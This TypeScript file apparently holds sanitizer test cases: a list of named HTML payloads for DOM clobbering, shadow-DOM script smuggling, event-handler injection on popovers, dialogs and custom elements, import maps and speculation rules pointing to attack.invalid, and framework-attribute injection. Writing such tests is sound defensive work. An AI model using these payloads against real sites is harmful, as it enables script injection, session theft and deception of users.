import type { Attack } from './attack.ts'

/** Names that collide with scripts of the page (DOM clobbering), and elements with behaviour of their own. */
export const PAGE_TAKEOVER: readonly Attack[] = [
  { name: 'id of a global', html: '<a id=config href="https://attack.invalid/">x</a>' },
  { name: 'id of a document property', html: '<a id=getElementById>x</a><a id=createElement>x</a><p id=body>x</p>' },
  { name: 'name of a document property', html: '<img name=getElementById><form name=cookie></form><embed name=body>' },
  { name: 'two ids make a collection', html: '<a id=x>1</a><a id=x name=y href="https://attack.invalid/">2</a>' },
  {
    name: 'form with fields that hide its properties',
    html: '<form id=f onclick=pwned()><input name=attributes><input name=innerHTML><input name=parentNode></form>',
  },
  {
    name: 'form with fields that hide its children',
    html: '<form><input name=childNodes><input name=firstChild><input name=removeChild><img src=x onerror=pwned()></form>',
  },
  {
    name: 'form whose node name is hidden',
    html: '<form><input name=nodeName><input name=tagName><input name=nodeType onfocus=pwned() autofocus></form>',
  },
  { name: 'field of a form elsewhere', html: '<input form=login name=next value="https://attack.invalid/">' },
  { name: 'frame with a name', html: '<iframe name=self srcdoc="<a id=x></a>"></iframe><iframe name=top></iframe>' },
  { name: 'id of prototype', html: '<p id=__proto__ name=constructor class=hasOwnProperty>x</p><img id=toString>' },
  {
    name: 'attributes by the names of prototype',
    html: '<a __proto__=x constructor=y hasownproperty=z href="https://good.example/">x</a>',
  },
  {
    name: 'tags by the names of prototype',
    html: '<constructor onclick=pwned()>x</constructor><__proto__>y</__proto__><tostring>z</tostring>',
  },
  {
    name: 'id of what the site looks for',
    html: '<p id="root">x</p><p id="main">y</p><script id="__data" type="application/json">{}</script>',
  },
  { name: 'custom element', html: '<x-thing onclick=pwned() tabindex=0 autofocus onfocus=pwned()>x</x-thing>' },
  {
    name: 'built-in element with is',
    html: '<p is="x-thing" onfocus=pwned()>x</p><a is=x-link href="javascript:pwned()">y</a>',
  },
  { name: 'custom element with a dot in its name', html: '<a.b-c onfocus=pwned() tabindex=0 autofocus>x</a.b-c>' },
  { name: 'slot', html: '<slot name=x onslotchange=pwned()>x</slot><p slot=x>y</p>' },
  {
    name: 'shadow by declaration',
    html: '<div><template shadowrootmode="open"><script>pwned()</script><slot></slot></template></div>',
  },
  {
    name: 'shadow by the older word',
    html: '<div><template shadowroot="closed"><img src=x onerror=pwned()></template></div>',
  },
  {
    name: 'shadow on an allowed tag',
    html: '<blockquote><template shadowrootmode=closed shadowrootclonable><img src=x onerror=pwned()></template>x</blockquote>',
  },
  {
    name: 'popover',
    html: '<button popovertarget=p>x</button><p popover id=p onbeforetoggle=pwned() ontoggle=pwned()>y</p>',
  },
  {
    name: 'command of a button',
    html: '<button commandfor=d command=show-modal>x</button><dialog id=d onbeforetoggle=pwned() oncommand=pwned()>y</dialog>',
  },
  {
    name: 'dialog that is open',
    html: '<dialog open onclose=pwned() oncancel=pwned()><form method=dialog><button autofocus onfocus=pwned()>x</button></form></dialog>',
  },
  { name: 'import map', html: '<script type="importmap">{"imports":{"#core/":"https://attack.invalid/"}}</script>' },
  {
    name: 'rules for fetching before',
    html: '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://attack.invalid/"]}]}</script>',
  },
  { name: 'hidden until found', html: '<p hidden=until-found onbeforematch=pwned()>x</p>' },
  {
    name: 'search field',
    html: '<input type=search onsearch=pwned() autofocus oninput=pwned()><search onclick=pwned()>x</search>',
  },
  {
    name: 'output and meter',
    html: '<output onclick=pwned() form=login>x</output><meter onclick=pwned()>y</meter><progress onclick=pwned()></progress>',
  },
  { name: 'canvas', html: '<canvas onclick=pwned()><img src=x onerror=pwned()></canvas>' },
  { name: 'editable', html: '<div contenteditable onblur=pwned() oninput=pwned() autofocus spellcheck>x</div>' },
  { name: 'draggable', html: '<p draggable=true ondragstart=pwned() ondragend=pwned()>x</p>' },
  {
    name: 'attributes of libraries',
    html: '<p data-bind="html:pwned()" x-init="pwned()" v-html="pwned()" ng-app ng-init="pwned()" hx-get="https://attack.invalid/" @click="pwned()">x</p>',
  },
  {
    name: 'attributes that readers hear',
    html: '<p role=alert aria-label="Your account is closed" aria-hidden=true aria-live=assertive>x</p>',
  },
  {
    name: 'attributes of microdata',
    html: '<p itemscope itemtype="https://attack.invalid/" itemid="javascript:pwned()" about="x" property="og:url">x</p>',
  },
  {
    name: 'access key and tab order',
    html: '<a href="https://good.example/" accesskey=x tabindex=1 onkeydown=pwned() inert>x</a>',
  },
]
